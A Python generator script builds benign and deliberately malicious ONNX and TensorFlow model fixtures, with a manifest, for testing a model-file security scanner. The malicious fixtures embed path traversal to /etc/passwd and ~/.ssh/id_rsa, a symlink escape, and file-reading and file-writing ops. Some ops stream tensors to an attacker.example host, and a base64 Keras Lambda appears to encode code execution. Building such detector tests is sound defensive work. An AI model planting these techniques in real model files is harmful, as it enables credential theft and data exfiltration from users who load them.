#!/usr/bin/python3
"""Generates the ONNX and TensorFlow fixtures in tests/testdata/graph/ and their manifest.json.

ONNX files are made with the real `onnx` package (python3-onnx, Debian). TensorFlow is not in
Debian, so SavedModel / GraphDef bytes are written with the small protobuf encoder below, by the
field numbers of tensorflow/core/protobuf/{saved_model,meta_graph}.proto and
tensorflow/core/framework/{graph,node_def,attr_value,function,op_def,tensor}.proto.

Run from anywhere:  /usr/bin/python3 tests/testdata/graph/gen/make_graph_fixtures.py
Output is deterministic (same bytes on every run). Malicious fixtures only *reference* dangerous
things (paths, ops); nothing here is executed or read by the scanner tests.
"""
import json
import os
import shutil
import struct
import sys

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)  # tests/testdata/graph
MANIFEST = []


def record(rel, technique, expect, rule=None):
    entry = {"file": rel, "technique": technique, "expect": expect}
    if rule:
        entry["rule"] = rule
    MANIFEST.append(entry)


# ----------------------------------------------------------------------------------------- ONNX

OPSET = [helper.make_opsetid("", 13)]


def mlp_graph(name="mlp", initializers=None):
    w = numpy_helper.from_array(np.arange(12, dtype=np.float32).reshape(3, 4) / 10.0, "W")
    b = numpy_helper.from_array(np.ones(4, dtype=np.float32), "B")
    nodes = [
        helper.make_node("MatMul", ["x", "W"], ["h"], name="matmul"),
        helper.make_node("Add", ["h", "B"], ["h2"], name="add"),
        helper.make_node("Relu", ["h2"], ["y"], name="relu"),
    ]
    return helper.make_graph(
        nodes, name,
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
        initializer=initializers if initializers is not None else [w, b])


def model_of(graph, opsets=None, functions=None):
    m = helper.make_model(graph, opset_imports=opsets or OPSET, functions=functions,
                          producer_name="aigis-fixtures", producer_version="1.0")
    m.ir_version = 8
    return m


def ext_tensor(name, location, offset=None, length=None, extra=None, raw=None, dims=(4,)):
    t = TensorProto()
    t.name = name
    t.data_type = TensorProto.FLOAT
    t.dims.extend(dims)
    t.data_location = TensorProto.EXTERNAL
    e = t.external_data.add()
    e.key, e.value = "location", location
    if offset is not None:
        e = t.external_data.add()
        e.key, e.value = "offset", str(offset)
    if length is not None:
        e = t.external_data.add()
        e.key, e.value = "length", str(length)
    for k, v in (extra or []):
        e = t.external_data.add()
        e.key, e.value = k, v
    if raw is not None:
        t.raw_data = raw
    return t


def graph_with_external(t):
    """An Add whose second input is the external tensor."""
    return helper.make_graph(
        [helper.make_node("Add", ["x", t.name], ["y"], name="add")], "ext",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])],
        initializer=[t])


def save(model, rel):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(model.SerializeToString())


def write_bytes(rel, data):
    path = os.path.join(ROOT, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def make_onnx():
    # Benign: inline weights.
    m = model_of(mlp_graph())
    onnx.checker.check_model(m)
    save(m, "onnx/benign_mlp.onnx")
    record("onnx/benign_mlp.onnx", "MatMul/Add/Relu with inline initializers", "clean")

    # Benign: weights in a sibling file, written by onnx itself.
    m = model_of(mlp_graph("mlp_external"))
    d = os.path.join(ROOT, "onnx/benign_external")
    os.makedirs(d, exist_ok=True)
    onnx.save_model(m, os.path.join(d, "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location="weights.bin", size_threshold=0)
    onnx.checker.check_model(os.path.join(d, "model.onnx"))
    record("onnx/benign_external/model.onnx", "external data in weights.bin (onnx.save_model)",
           "clean")

    # Benign: If with two subgraphs.
    then_g = helper.make_graph([helper.make_node("Relu", ["x"], ["t"], name="then_relu")], "then",
                               [], [helper.make_tensor_value_info("t", TensorProto.FLOAT, [4])])
    else_g = helper.make_graph([helper.make_node("Neg", ["x"], ["e"], name="else_neg")], "else",
                               [], [helper.make_tensor_value_info("e", TensorProto.FLOAT, [4])])
    g = helper.make_graph(
        [helper.make_node("If", ["c"], ["y"], name="if0", then_branch=then_g, else_branch=else_g)],
        "if_model",
        [helper.make_tensor_value_info("c", TensorProto.BOOL, []),
         helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    save(model_of(g), "onnx/benign_if.onnx")
    record("onnx/benign_if.onnx", "If with then/else subgraphs", "clean")

    # Benign: ONNX Runtime contrib op (com.microsoft) -> info only.
    g = helper.make_graph([helper.make_node("Gelu", ["x"], ["y"], name="gelu",
                                            domain="com.microsoft")], "contrib",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    save(model_of(g, OPSET + [helper.make_opsetid("com.microsoft", 1)]), "onnx/benign_contrib.onnx")
    record("onnx/benign_contrib.onnx", "com.microsoft contrib operator", "clean")

    # Benign: a model-local function called from the graph.
    fn = helper.make_function("local.fn", "Swish", ["a"], ["b"],
                              [helper.make_node("Sigmoid", ["a"], ["s"]),
                               helper.make_node("Mul", ["a", "s"], ["b"])], OPSET)
    g = helper.make_graph([helper.make_node("Swish", ["x"], ["y"], name="swish",
                                            domain="local.fn")], "fn_model",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    save(model_of(g, OPSET + [helper.make_opsetid("local.fn", 1)], [fn]),
         "onnx/benign_local_function.onnx")
    record("onnx/benign_local_function.onnx", "model-local FunctionProto", "clean")

    # Malicious: external data locations.
    cases = [
        ("traversal", "../../../../../../etc/passwd", "onnx.external_data.path_traversal",
         "CVE-2022-25882: '..' in location"),
        ("absolute_posix", "/etc/passwd", "onnx.external_data.absolute_path",
         "CVE-2024-27318: absolute location"),
        ("absolute_windows", "C:\\Windows\\win.ini", "onnx.external_data.absolute_path",
         "drive-letter location"),
        ("unc", "\\\\attacker.example\\share\\w.bin", "onnx.external_data.absolute_path",
         "UNC location (SMB fetch on Windows)"),
        ("backslash_traversal", "..\\..\\secrets.txt", "onnx.external_data.path_traversal",
         "'..' with Windows separators"),
        ("file_url", "file:///etc/shadow", "onnx.external_data.absolute_path", "URL location"),
    ]
    for name, loc, rule, tech in cases:
        save(model_of(graph_with_external(ext_tensor("w", loc))), f"onnx/{name}.onnx")
        record(f"onnx/{name}.onnx", tech, "malicious", rule)

    t = ext_tensor("w", "*/_ORT_MEM_ADDR_/*", offset=140737488355328, length=16)
    save(model_of(graph_with_external(t)), "onnx/ort_marker.onnx")
    record("onnx/ort_marker.onnx", "ONNX Runtime in-memory marker, offset = raw address",
           "malicious", "onnx.external_data.ort_memory_marker")

    # Symlinked directory leaving the model folder (CVE-2026-27489 class).
    d = os.path.join(ROOT, "onnx/symlink_escape")
    os.makedirs(d, exist_ok=True)
    link = os.path.join(d, "linked")
    if os.path.lexists(link):
        os.remove(link)
    os.symlink("/etc", link)
    save(model_of(graph_with_external(ext_tensor("w", "linked/passwd"))),
         "onnx/symlink_escape/model.onnx")
    record("onnx/symlink_escape/model.onnx", "location through a symlinked dir -> /etc",
           "malicious", "onnx.external_data.symlink_escape")

    # Offsets and lengths.
    write_bytes("onnx/out_of_range/weights.bin", bytes(16))
    save(model_of(graph_with_external(ext_tensor("w", "weights.bin", offset=0, length=4096))),
         "onnx/out_of_range/model.onnx")
    record("onnx/out_of_range/model.onnx", "length past the end of the data file", "suspicious",
           "onnx.external_data.out_of_range")
    write_bytes("onnx/bad_offset/weights.bin", bytes(16))
    t = ext_tensor("w", "weights.bin", extra=[("offset", "0x10")])
    save(model_of(graph_with_external(t)), "onnx/bad_offset/model.onnx")
    record("onnx/bad_offset/model.onnx", "non-numeric offset", "suspicious",
           "onnx.external_data.bad_number")

    write_bytes("onnx/raw_and_external/weights.bin", bytes(16))
    t = ext_tensor("w", "weights.bin", raw=bytes(16))
    save(model_of(graph_with_external(t)), "onnx/raw_and_external/model.onnx")
    record("onnx/raw_and_external/model.onnx", "raw_data and external data both present",
           "suspicious", "onnx.external_data.raw_data_conflict")

    t = ext_tensor("w", "weights.bin", extra=[("__class__", "os.system")])
    save(model_of(graph_with_external(t)), "onnx/unknown_key.onnx")
    record("onnx/unknown_key.onnx", "unknown external_data key (old setattr loader)", "suspicious",
           "onnx.external_data.unknown_key")

    # Custom operator domain.
    g = helper.make_graph([helper.make_node("Backdoor", ["x"], ["y"], name="bd",
                                            domain="evil.ops")], "custom",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    save(model_of(g, OPSET + [helper.make_opsetid("evil.ops", 1)]), "onnx/custom_domain.onnx")
    record("onnx/custom_domain.onnx", "operator from a custom domain (needs a custom kernel)",
           "suspicious", "onnx.operator.custom_domain")

    # Malicious initializer hidden in an If subgraph.
    bad = ext_tensor("hidden", "../../../../root/.ssh/id_rsa")
    then_g = helper.make_graph([helper.make_node("Add", ["x", "hidden"], ["t"], name="then_add")],
                               "then", [], [helper.make_tensor_value_info("t", TensorProto.FLOAT, [4])],
                               initializer=[bad])
    else_g = helper.make_graph([helper.make_node("Neg", ["x"], ["e"], name="else_neg")], "else",
                               [], [helper.make_tensor_value_info("e", TensorProto.FLOAT, [4])])
    loop_body = helper.make_graph(
        [helper.make_node("If", ["c"], ["y"], name="inner_if", then_branch=then_g,
                          else_branch=else_g)], "body", [], [])
    g = helper.make_graph(
        [helper.make_node("If", ["c"], ["y"], name="outer_if", then_branch=loop_body,
                          else_branch=else_g)],
        "nested_if",
        [helper.make_tensor_value_info("c", TensorProto.BOOL, []),
         helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    save(model_of(g), "onnx/subgraph_traversal.onnx")
    record("onnx/subgraph_traversal.onnx", "traversal in an initializer two If levels down",
           "malicious", "onnx.external_data.path_traversal")

    # External tensor inside a Constant node's attribute.
    c = helper.make_node("Constant", [], ["k"], name="const", value=ext_tensor("k", "/proc/self/environ"))
    g = helper.make_graph([c, helper.make_node("Add", ["x", "k"], ["y"], name="add")], "const",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    save(model_of(g), "onnx/constant_attr_absolute.onnx")
    record("onnx/constant_attr_absolute.onnx", "absolute location in a Constant attribute tensor",
           "malicious", "onnx.external_data.absolute_path")

    # Custom-domain op hidden inside a model-local function.
    fn = helper.make_function("local.fn", "Wrapper", ["a"], ["b"],
                              [helper.make_node("Exfil", ["a"], ["b"], domain="evil.ops")],
                              OPSET + [helper.make_opsetid("evil.ops", 1)])
    g = helper.make_graph([helper.make_node("Wrapper", ["x"], ["y"], name="w",
                                            domain="local.fn")], "fn_custom",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])])
    save(model_of(g, OPSET + [helper.make_opsetid("local.fn", 1),
                              helper.make_opsetid("evil.ops", 1)], [fn]),
         "onnx/function_custom_domain.onnx")
    record("onnx/function_custom_domain.onnx", "custom-domain op inside a local function",
           "suspicious", "onnx.operator.custom_domain")

    # Truncated model.
    data = model_of(mlp_graph()).SerializeToString()
    write_bytes("onnx/truncated.onnx", data[: len(data) - 7])
    record("onnx/truncated.onnx", "model cut short", "suspicious", "onnx.malformed")


# ----------------------------------------------------------------------------- TensorFlow (wire)

def varint(v):
    out = bytearray()
    v &= (1 << 64) - 1
    while True:
        b = v & 0x7F
        v >>= 7
        if v:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def f_varint(n, v):
    return varint(n << 3) + varint(v)


def f_bytes(n, b):
    if isinstance(b, str):
        b = b.encode()
    return varint((n << 3) | 2) + varint(len(b)) + b


DT_FLOAT, DT_STRING, DT_RESOURCE = 1, 7, 20


def tensor_proto(dtype, strings=None, floats_raw=None, dims=()):
    shape = b"".join(f_bytes(2, f_varint(1, d)) for d in dims)
    out = f_varint(1, dtype) + f_bytes(2, shape)
    if floats_raw is not None:
        out += f_bytes(4, floats_raw)
    for s in strings or []:
        out += f_bytes(8, s)
    return out


def attr_value(v):
    kind, val = v
    if kind == "s":
        return f_bytes(2, val)
    if kind == "i":
        return f_varint(3, val)
    if kind == "type":
        return f_varint(6, val)
    if kind == "b":
        return f_varint(5, 1 if val else 0)
    if kind == "tensor":
        return f_bytes(8, val)
    if kind == "func":
        return f_bytes(10, f_bytes(1, val))
    if kind == "list_s":
        return f_bytes(1, b"".join(f_bytes(2, s) for s in val))
    if kind == "list_func":
        return f_bytes(1, b"".join(f_bytes(9, f_bytes(1, s)) for s in val))
    raise ValueError(kind)


def node(name, op, inputs=(), attrs=None, device=""):
    out = f_bytes(1, name) + f_bytes(2, op)
    for i in inputs:
        out += f_bytes(3, i)
    if device:
        out += f_bytes(4, device)
    for k in sorted(attrs or {}):
        out += f_bytes(5, f_bytes(1, k) + f_bytes(2, attr_value(attrs[k])))
    return out


def function(name, nodes):
    return f_bytes(1, f_bytes(1, name)) + b"".join(f_bytes(3, n) for n in nodes)


def graph_def(nodes, functions=()):
    out = b"".join(f_bytes(1, n) for n in nodes)
    if functions:
        out += f_bytes(2, b"".join(f_bytes(1, f) for f in functions))
    out += f_bytes(4, f_varint(1, 1286))  # VersionDef.producer
    return out


def meta_graph(gdef, saver=None, assets=()):
    info = f_bytes(1, "") + f_bytes(4, "serve") + f_bytes(5, "2.15.0")
    out = f_bytes(1, info) + f_bytes(2, gdef)
    if saver:
        out += f_bytes(3, f_bytes(1, saver[0]) + f_bytes(2, saver[1]) + f_bytes(3, saver[2]))
    for a in assets:
        out += f_bytes(6, f_bytes(2, a))
    return out


def saved_model(mg):
    return f_varint(1, 1) + f_bytes(2, mg)


F32 = ("type", DT_FLOAT)


def benign_tf2_parts(extra_graph=(), extra_fn_nodes=(), extra_functions=()):
    """Graph and library shaped like tf.saved_model.save() output of a Dense+ReLU module."""
    graph_nodes = [
        node("serving_default_x", "Placeholder", attrs={"dtype": F32}),
        node("dense/kernel", "VarHandleOp", attrs={"dtype": F32, "shared_name": ("s", "dense/kernel"),
                                                   "container": ("s", "")}),
        node("dense/bias", "VarHandleOp", attrs={"dtype": F32, "shared_name": ("s", "dense/bias")}),
        node("StatefulPartitionedCall", "StatefulPartitionedCall",
             ["serving_default_x", "dense/kernel", "dense/bias"],
             {"f": ("func", "__inference_signature_wrapper_120")}),
        node("saver_filename", "Placeholder", attrs={"dtype": ("type", DT_STRING)}),
        node("StatefulPartitionedCall_1", "StatefulPartitionedCall",
             ["saver_filename", "dense/kernel", "dense/bias"],
             {"f": ("func", "__inference__traced_save_200")}),
        node("StatefulPartitionedCall_2", "StatefulPartitionedCall",
             ["saver_filename", "dense/kernel", "dense/bias"],
             {"f": ("func", "__inference__traced_restore_300")}),
        node("NoOp", "NoOp"),
    ] + list(extra_graph)
    call = function("__inference_call_50", [
        node("MatMul/ReadVariableOp", "ReadVariableOp", ["kernel"], {"dtype": F32}),
        node("MatMul", "MatMul", ["x", "MatMul/ReadVariableOp:value:0"], {"T": F32}),
        node("BiasAdd/ReadVariableOp", "ReadVariableOp", ["bias"], {"dtype": F32}),
        node("BiasAdd", "BiasAdd", ["MatMul:product:0", "BiasAdd/ReadVariableOp:value:0"],
             {"T": F32, "data_format": ("s", "NHWC")}),
        node("Relu", "Relu", ["BiasAdd:output:0"], {"T": F32}),
        node("Identity", "Identity", ["Relu:activations:0"], {"T": F32}),
    ] + list(extra_fn_nodes))
    wrapper = function("__inference_signature_wrapper_120", [
        node("PartitionedCall", "StatefulPartitionedCall", ["x", "kernel", "bias"],
             {"f": ("func", "__inference_call_50"), "config": ("s", ""),
              "executor_type": ("s", "")}),
        node("Identity", "Identity", ["PartitionedCall:output:0"], {"T": F32}),
    ])
    save_fn = function("__inference__traced_save_200", [
        node("StaticRegexFullMatch", "StaticRegexFullMatch", ["file_prefix"],
             {"pattern": ("s", "^s3://.*")}),
        node("Const", "Const", attrs={"dtype": ("type", DT_STRING),
                                       "value": ("tensor", tensor_proto(DT_STRING, [".part"]))}),
        node("Const_1", "Const", attrs={"dtype": ("type", DT_STRING),
                                         "value": ("tensor", tensor_proto(DT_STRING, ["_temp/part"]))}),
        node("Select", "Select", ["StaticRegexFullMatch:output:0", "Const:output:0",
                                  "Const_1:output:0"], {"T": ("type", DT_STRING)}),
        node("StringJoin", "StringJoin", ["file_prefix", "Select:output:0"]),
        node("num_shards", "Const", attrs={"dtype": ("type", 3)}),
        node("ShardedFilename", "ShardedFilename", ["StringJoin:output:0", "num_shards:output:0"]),
        node("SaveV2/tensor_names", "Const", attrs={
            "dtype": ("type", DT_STRING),
            "value": ("tensor", tensor_proto(DT_STRING, ["layer/kernel/.ATTRIBUTES/VARIABLE_VALUE",
                                                         "layer/bias/.ATTRIBUTES/VARIABLE_VALUE"],
                                             dims=(2,)))}),
        node("SaveV2", "SaveV2", ["ShardedFilename:filename:0", "SaveV2/tensor_names:output:0"],
             {"dtypes": ("list_s", [])}),
        node("MergeV2Checkpoints", "MergeV2Checkpoints", ["file_prefix"]),
        node("Identity", "Identity", ["file_prefix"], {"T": ("type", DT_STRING)}),
        node("NoOp", "NoOp"),
    ])
    restore_fn = function("__inference__traced_restore_300", [
        node("RestoreV2/tensor_names", "Const", attrs={
            "dtype": ("type", DT_STRING),
            "value": ("tensor", tensor_proto(DT_STRING, ["layer/kernel/.ATTRIBUTES/VARIABLE_VALUE"]))}),
        node("RestoreV2", "RestoreV2", ["file_prefix", "RestoreV2/tensor_names:output:0"]),
        node("Identity", "Identity", ["RestoreV2:tensors:0"], {"T": F32}),
        node("AssignVariableOp", "AssignVariableOp", ["kernel", "Identity"], {"dtype": F32}),
        node("NoOp", "NoOp"),
    ])
    fns = [call, wrapper, save_fn, restore_fn] + list(extra_functions)
    return graph_nodes, fns


def write_saved_model(rel, graph_nodes, fns, assets=()):
    mg = meta_graph(graph_def(graph_nodes, fns),
                    saver=("saver_filename:0", "StatefulPartitionedCall_1:0",
                           "StatefulPartitionedCall_2"),
                    assets=assets)
    write_bytes(rel, saved_model(mg))


def make_tensorflow():
    g, f = benign_tf2_parts()
    write_saved_model("tensorflow/benign_tf2/saved_model.pb", g, f, assets=["vocab.txt"])
    record("tensorflow/benign_tf2/saved_model.pb",
           "TF2 SavedModel: Dense+ReLU, traced save/restore functions (SaveV2/RestoreV2)", "clean")

    # TF1 style: saver ops under the "save/" scope named by SaverDef.
    w = np.arange(6, dtype=np.float32).tobytes()
    tf1 = [
        node("x", "Placeholder", attrs={"dtype": F32}),
        node("w", "VariableV2", attrs={"dtype": F32, "shape": ("s", "")}),
        node("w/read", "Identity", ["w"], {"T": F32}),
        node("w/Initializer", "Const", attrs={"dtype": F32,
                                              "value": ("tensor", tensor_proto(DT_FLOAT, floats_raw=w, dims=(2, 3)))}),
        node("w/Assign", "Assign", ["w", "w/Initializer"], {"T": F32}),
        node("MatMul", "MatMul", ["x", "w/read"], {"T": F32}),
        node("Softmax", "Softmax", ["MatMul"], {"T": F32}),
        node("save/filename", "PlaceholderWithDefault", ["save/Const"]),
        node("save/Const", "Const", attrs={"dtype": ("type", DT_STRING),
                                           "value": ("tensor", tensor_proto(DT_STRING, ["model"]))}),
        node("save/SaveV2", "SaveV2", ["save/filename"]),
        node("save/control_dependency", "Identity", ["save/filename", "^save/SaveV2"]),
        node("save/RestoreV2", "RestoreV2", ["save/filename"]),
        node("save/Assign", "Assign", ["w", "save/RestoreV2"], {"T": F32}),
        node("save/restore_all", "NoOp", ["^save/Assign"]),
        node("init", "NoOp", ["^w/Assign"]),
    ]
    mg = meta_graph(graph_def(tf1), saver=("save/Const:0", "save/control_dependency:0",
                                           "save/restore_all"))
    write_bytes("tensorflow/benign_tf1/saved_model.pb", saved_model(mg))
    record("tensorflow/benign_tf1/saved_model.pb", "TF1 SavedModel with a save/ scope saver",
           "clean")

    frozen = [
        node("input", "Placeholder", attrs={"dtype": F32}),
        node("w", "Const", attrs={"dtype": F32,
                                  "value": ("tensor", tensor_proto(DT_FLOAT, floats_raw=w, dims=(2, 3)))}),
        node("MatMul", "MatMul", ["input", "w"], {"T": F32}),
        node("Relu", "Relu", ["MatMul"], {"T": F32}),
        node("output", "Identity", ["Relu"], {"T": F32}),
    ]
    write_bytes("tensorflow/benign_frozen.pb", graph_def(frozen))
    record("tensorflow/benign_frozen.pb", "frozen GraphDef (MatMul/Relu)", "clean")

    def str_const(name, s):
        return node(name, "Const", attrs={"dtype": ("type", DT_STRING),
                                          "value": ("tensor", tensor_proto(DT_STRING, [s]))})

    # ReadFile in the top-level graph.
    g, f = benign_tf2_parts(extra_graph=[str_const("path", "/etc/passwd"),
                                         node("ReadFile", "ReadFile", ["path"])])
    write_saved_model("tensorflow/readfile_graph/saved_model.pb", g, f)
    record("tensorflow/readfile_graph/saved_model.pb", "ReadFile of /etc/passwd in the graph",
           "malicious", "tensorflow.op.denied")

    # WriteFile hidden in a library function.
    g, f = benign_tf2_parts(extra_fn_nodes=[str_const("p", "/home/user/.bashrc"),
                                            node("WriteFile", "WriteFile", ["p", "contents"])])
    write_saved_model("tensorflow/writefile_function/saved_model.pb", g, f)
    record("tensorflow/writefile_function/saved_model.pb", "WriteFile inside a library function",
           "malicious", "tensorflow.op.denied")

    # PyFunc in a frozen graph.
    write_bytes("tensorflow/pyfunc.pb", graph_def(frozen + [
        node("py", "PyFunc", ["input"], {"token": ("s", "pyfunc_0"), "Tin": ("list_s", []),
                                         "Tout": ("list_s", [])})]))
    record("tensorflow/pyfunc.pb", "PyFunc (Python callback) in a GraphDef", "malicious",
           "tensorflow.op.denied")

    # DebugIdentityV3 streaming tensors to a gRPC debug server.
    g, f = benign_tf2_parts(extra_graph=[node("dbg", "DebugIdentityV3", ["serving_default_x"], {
        "debug_urls": ("list_s", ["grpc://attacker.example:6064"]), "T": F32})])
    write_saved_model("tensorflow/debug_grpc/saved_model.pb", g, f)
    record("tensorflow/debug_grpc/saved_model.pb", "DebugIdentityV3 with a grpc:// debug URL",
           "malicious", "tensorflow.op.denied")

    # tf.data service: data flows to an attacker-controlled dispatcher.
    g, f = benign_tf2_parts(extra_fn_nodes=[
        str_const("address", "attacker.example:5050"), str_const("protocol", "grpc"),
        node("DataServiceDatasetV4", "DataServiceDatasetV4", ["dataset_id", "address", "protocol"])])
    write_saved_model("tensorflow/data_service/saved_model.pb", g, f)
    record("tensorflow/data_service/saved_model.pb", "DataServiceDatasetV4 to a remote dispatcher",
           "malicious", "tensorflow.op.denied")

    write_bytes("tensorflow/immutable_const.pb", graph_def(frozen + [
        node("mm", "ImmutableConst", attrs={"dtype": F32, "memory_region_name": ("s", "/etc/shadow")})]))
    record("tensorflow/immutable_const.pb", "ImmutableConst memory-mapping /etc/shadow", "malicious",
           "tensorflow.op.denied")

    g, f = benign_tf2_parts(extra_fn_nodes=[node("print", "PrintV2", ["Relu:activations:0"], {
        "output_stream": ("s", "file:///tmp/exfil.txt"), "end": ("s", "\n")})])
    write_saved_model("tensorflow/print_to_file/saved_model.pb", g, f)
    record("tensorflow/print_to_file/saved_model.pb", "PrintV2 with output_stream file://",
           "malicious", "tensorflow.op.print_to_file")

    # SaveV2 used outside the saver functions, writing to an absolute path.
    g, f = benign_tf2_parts(extra_fn_nodes=[str_const("prefix", "/tmp/pwned/ckpt"),
                                            node("SaveV2", "SaveV2", ["prefix", "names", "x"])])
    write_saved_model("tensorflow/savev2_outside_saver/saved_model.pb", g, f)
    record("tensorflow/savev2_outside_saver/saved_model.pb",
           "SaveV2 in the serving function writing /tmp/pwned", "malicious",
           "tensorflow.op.saver_outside_saver")

    g, f = benign_tf2_parts(extra_graph=[node("mystery", "TotallyCustomOp", ["serving_default_x"])])
    write_saved_model("tensorflow/unknown_op/saved_model.pb", g, f)
    record("tensorflow/unknown_op/saved_model.pb", "op that is not a known TensorFlow op",
           "suspicious", "tensorflow.op.unknown")

    write_bytes("tensorflow/matching_files.pb", graph_def(frozen + [
        str_const("pattern", "/home/*/.ssh/*"), node("ls", "MatchingFiles", ["pattern"])]))
    record("tensorflow/matching_files.pb", "MatchingFiles enumerating ~/.ssh", "malicious",
           "tensorflow.op.denied")

    # RPC ops reached through a function referenced from a list(func) attr only.
    rpc_fn = function("__inference_branch_77", [
        str_const("server", "attacker.example:9999"),
        node("client", "RpcClient", ["server"]),
        node("call", "RpcCall", ["client", "method"])])
    g, f = benign_tf2_parts(
        extra_graph=[node("case", "StatelessCase", ["serving_default_x"],
                          {"branches": ("list_func", ["__inference_branch_77"])})],
        extra_functions=[rpc_fn])
    write_saved_model("tensorflow/rpc_branch/saved_model.pb", g, f)
    record("tensorflow/rpc_branch/saved_model.pb", "RpcClient/RpcCall in a Case branch function",
           "malicious", "tensorflow.op.denied")

    g, f = benign_tf2_parts()
    write_saved_model("tensorflow/asset_traversal/saved_model.pb", g, f,
                      assets=["../../../../etc/passwd"])
    record("tensorflow/asset_traversal/saved_model.pb", "asset file name with '..'", "malicious",
           "tensorflow.asset.path_traversal")

    data = open(os.path.join(ROOT, "tensorflow/benign_tf2/saved_model.pb"), "rb").read()
    write_bytes("tensorflow/truncated/saved_model.pb", data[: len(data) // 2])
    record("tensorflow/truncated/saved_model.pb", "SavedModel cut in half", "suspicious",
           "tensorflow.malformed")


def keras_saved_object(node_id, path, identifier, metadata):
    out = (f_varint(2, node_id) if node_id else b"") + f_bytes(3, path) + f_bytes(4, identifier)
    return out + f_bytes(5, json.dumps(metadata, sort_keys=True))


def make_keras_metadata():
    """keras_metadata.pb (tensorflow/python/keras/protobuf/saved_metadata.proto). Not listed in
    manifest.json until the scanner sniffs this file; tests/scan/graph reads them by path."""
    model = {"name": "sequential", "class_name": "Sequential", "config": {"name": "sequential",
             "layers": [{"class_name": "Dense", "config": {"name": "dense", "units": 4}}]}}
    dense = {"name": "dense", "class_name": "Dense", "config": {"name": "dense", "units": 4,
             "activation": "relu"}, "dtype": "float32", "trainable": True}
    benign = f_bytes(1, keras_saved_object(0, "root", "_tf_keras_sequential", model)) + \
        f_bytes(1, keras_saved_object(1, "root.layer_with_weights-0", "_tf_keras_layer", dense))
    write_bytes("tensorflow/keras_benign/keras_metadata.pb", benign)
    lam = {"name": "lambda", "class_name": "Lambda", "config": {
        "name": "lambda", "function": ["4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMMAAAAdABkAYMBAQB8AFMAKQJO"
                                       "2gJpZCkB2gRleGVjKQHaAXipAHICAAAA+gg8c3RkaW4+2gg8bGFtYmRhPgEAAABz"
                                       "AAAAAA==", None, None],
        "function_type": "lambda", "module": "__main__", "output_shape": None}}
    bad = f_bytes(1, keras_saved_object(0, "root", "_tf_keras_sequential", model)) + \
        f_bytes(1, keras_saved_object(1, "root.layer-0", "_tf_keras_layer", lam))
    write_bytes("tensorflow/keras_lambda/keras_metadata.pb", bad)


def main():
    for sub in ("onnx", "tensorflow"):
        shutil.rmtree(os.path.join(ROOT, sub), ignore_errors=True)
    make_onnx()
    make_tensorflow()
    make_keras_metadata()
    with open(os.path.join(ROOT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, sort_keys=True)
        f.write("\n")
    print(f"wrote {len(MANIFEST)} fixtures under {ROOT}")


if __name__ == "__main__":
    sys.exit(main())
